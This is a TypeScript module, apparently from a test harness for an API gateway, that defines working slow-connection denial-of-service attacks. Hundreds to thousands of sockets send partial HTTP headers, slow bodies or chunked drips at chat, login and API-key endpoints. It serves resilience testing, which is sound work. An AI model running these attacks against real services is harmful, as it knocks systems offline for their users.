import { connect, type Socket } from 'node:net';
import { type Attack, Tally, type Target } from './attack.ts';

interface SlowSockets {
  name: string;
  /** Open at the same time. */
  sockets: number;
  /** What each sends at once. */
  begin(target: Target): string;
  /** What each sends every second after that. */
  drip: string;
}

/** Connections that begin a request and never finish it. One that the gateway closes is opened again. */
function openSlowSockets({ name, sockets, begin, drip }: SlowSockets): Attack {
  return {
    name,
    async run(target, signal) {
      const tally = new Tally();
      const open = new Set<Socket>();
      const openOne = () => {
        if (signal.aborted) return;
        tally.start();
        const socket = connect({
          host: target.url.hostname,
          port: Number(target.url.port),
          localAddress: target.tenant.address,
        });
        open.add(socket);
        socket.once('connect', () => socket.write(begin(target)));
        const timer = setInterval(() => socket.write(drip), 1000);
        socket.once('data', (bytes: Buffer) => tally.count(bytes.subarray(9, 12).toString('latin1')));
        socket.once('error', () => socket.destroy());
        socket.once('close', () => {
          clearInterval(timer);
          open.delete(socket);
          tally.count('closed');
          // Not at once: an attacker that opens connections as fast as it can is another attack.
          setTimeout(openOne, 250);
        });
      };
      for (let at = 0; at < sockets; at += 1) openOne();
      await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
      for (const socket of open) socket.destroy();
      return tally.report();
    },
  };
}

const head = (target: Target, method: string, path: string, lines: readonly string[]) =>
  [`${method} ${path} HTTP/1.1`, `Host: ${target.url.host}`, 'Content-Type: application/json', ...lines, '', ''].join(
    '\r\n',
  );
const bearer = ({ tenant }: Target) => `Authorization: Bearer ${tenant.apiKey}`;
const chatPath = '/v1/chat/completions';

export const slowSockets: readonly Attack[] = [
  openSlowSockets({
    name: 'heads that never end, without a credential',
    sockets: 500,
    begin: ({ url }) => `POST ${chatPath} HTTP/1.1\r\nHost: ${url.host}\r\n`,
    drip: 'X-A: b\r\n',
  }),
  openSlowSockets({ name: 'idle connections', sockets: 2000, begin: () => '', drip: '' }),
  openSlowSockets({
    name: 'slow bodies of logins, without a credential',
    sockets: 300,
    begin: (target) => `${head(target, 'POST', '/v1/auth/login', ['Content-Length: 1000'])}{"email":"`,
    drip: 'a',
  }),
  openSlowSockets({
    name: 'slow bodies of one key, with their length',
    sockets: 300,
    begin: (target) => `${head(target, 'POST', chatPath, [bearer(target), 'Content-Length: 70000'])}{"`,
    drip: 'a',
  }),
  openSlowSockets({
    name: 'slow bodies of one key, small enough to be gathered',
    sockets: 300,
    begin: (target) => `${head(target, 'POST', chatPath, [bearer(target), 'Content-Length: 2000'])}{"`,
    drip: 'a',
  }),
  openSlowSockets({
    name: 'slow bodies of one key, chunked',
    sockets: 300,
    begin: (target) => `${head(target, 'POST', chatPath, [bearer(target), 'Transfer-Encoding: chunked'])}2\r\n{"\r\n`,
    drip: '1\r\na\r\n',
  }),
  openSlowSockets({
    name: 'slow bodies of one owner at the management API',
    sockets: 300,
    begin: (target) =>
      `${head(target, 'POST', '/v1/auth/api-keys', [
        `Authorization: Bearer ${target.tenant.accessToken}`,
        'Content-Length: 1000',
      ])}{"name":"`,
    drip: 'a',
  }),
];
